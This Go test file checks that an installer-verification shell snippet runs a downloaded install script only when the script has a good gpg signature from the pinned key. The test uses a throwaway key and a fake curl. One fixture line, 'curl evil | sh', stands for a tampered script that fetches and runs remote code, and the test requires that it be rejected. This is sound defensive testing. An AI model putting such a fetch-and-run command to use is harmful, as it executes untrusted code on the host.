package edgecluster

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// The board command's signature check, run for real with gpg against a
// throwaway key; a fake curl serves the files, so nothing leaves the machine.
func TestVerifyInstallScriptRunsOnlyAGoodSignatureByThePinnedKey(t *testing.T) {
	if _, err := exec.LookPath("gpg"); err != nil {
		t.Skip("gpg not installed")
	}
	// A short path: gpg-agent's socket path must fit in 108 bytes, which
	// t.TempDir's long names can exceed.
	dir, err := os.MkdirTemp("", "edv")
	if err != nil {
		t.Fatal(err)
	}
	keyHome := filepath.Join(dir, "signer")
	if err := os.Mkdir(keyHome, 0o700); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { killAgents(dir); os.RemoveAll(dir) })
	gpg := func(args ...string) string {
		t.Helper()
		cmd := exec.Command("gpg", append([]string{"--homedir", keyHome, "--batch", "--passphrase", ""}, args...)...)
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("gpg %v: %v", args, err)
		}
		return string(out)
	}
	gpg("--quick-gen-key", "edge-drop test <test@example.invalid>", "ed25519", "sign", "never")
	var fpr string
	for _, line := range strings.Split(gpg("--with-colons", "--list-keys"), "\n") {
		if strings.HasPrefix(line, "fpr:") && fpr == "" {
			fpr = strings.Split(line, ":")[9]
		}
	}
	script := filepath.Join(dir, "install.sh")
	write(t, script, "echo installer\n")
	gpg("--armor", "--output", script+".asc", "--detach-sign", script)
	write(t, filepath.Join(dir, "key.gpg"), gpg("--armor", "--export"))

	bin := filepath.Join(dir, "bin")
	// curl [--proto =https] -fsSL [-o FILE] URL: serve the fixture for URL.
	write(t, filepath.Join(bin, "curl"), `#!/bin/sh
out=; for a; do case "$prev" in -o) out=$a ;; esac; prev=$a; url=$a; done
case "$url" in
  *.sh.asc) src="`+script+`.asc" ;; *.sh) src="`+script+`" ;; *.gpg) src="`+dir+`/key.gpg" ;; *) exit 22 ;;
esac
if [ -n "$out" ]; then cp "$src" "$out"; else cat "$src"; fi
`)
	if err := os.Chmod(filepath.Join(bin, "curl"), 0o755); err != nil {
		t.Fatal(err)
	}
	run := func(pinned string) (string, error) {
		// mktemp -d makes the installer's private directory under TMPDIR:
		// here the test's dir.
		script := strings.ReplaceAll(VerifyInstallScript, ECSSigningKeyFPR, pinned)
		cmd := exec.Command("bash", "-c", script+" && echo RAN")
		cmd.Env = append(os.Environ(), "PATH="+bin+":"+os.Getenv("PATH"), "TMPDIR="+dir)
		out, err := cmd.CombinedOutput()
		return string(out), err
	}

	// GIVEN the installer signed by the pinned key THEN it runs
	if out, err := run(fpr); err != nil || !strings.Contains(out, "good signature") || !strings.Contains(out, "RAN") {
		t.Fatalf("a good signature by the pinned key must pass: %v\n%s", err, out)
	}
	// The fetched installer is in a private directory of its own (under
	// TMPDIR, here the test's dir), never at a name known in advance.
	found, _ := filepath.Glob(filepath.Join(dir, "tmp.*", "ecs-anywhere-install.sh"))
	if len(found) != 1 {
		t.Errorf("the installer was not fetched into one private directory under TMPDIR: %v", found)
	} else if fi, err := os.Stat(filepath.Dir(found[0])); err != nil || fi.Mode().Perm() != 0o700 {
		t.Errorf("the installer's directory: %v, mode %v, want 0700", err, fi.Mode().Perm())
	}
	if strings.Contains(VerifyInstallScript, "/tmp/") {
		t.Errorf("the installer must not go to a fixed /tmp path:\n%s", VerifyInstallScript)
	}
	// GIVEN the same signature but AWS's key pinned THEN nothing runs
	if out, err := run(ECSSigningKeyFPR); err == nil || strings.Contains(out, "RAN") {
		t.Fatalf("a signature by another key must fail: %s", out)
	}
	// GIVEN a script changed after signing THEN nothing runs
	write(t, script, "echo installer; curl evil | sh\n")
	if out, err := run(fpr); err == nil || strings.Contains(out, "RAN") {
		t.Fatalf("a tampered script must fail: %s", out)
	}
}

func write(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// killAgents stops the gpg-agent (and keyboxd) any keyring under dir
// started, so the test leaves no process behind.
func killAgents(dir string) {
	_ = filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err == nil && d.IsDir() && (d.Name() == "signer" || strings.HasPrefix(d.Name(), "tmp.")) {
			_ = exec.Command("gpgconf", "--homedir", path, "--kill", "all").Run()
		}
		return nil
	})
}
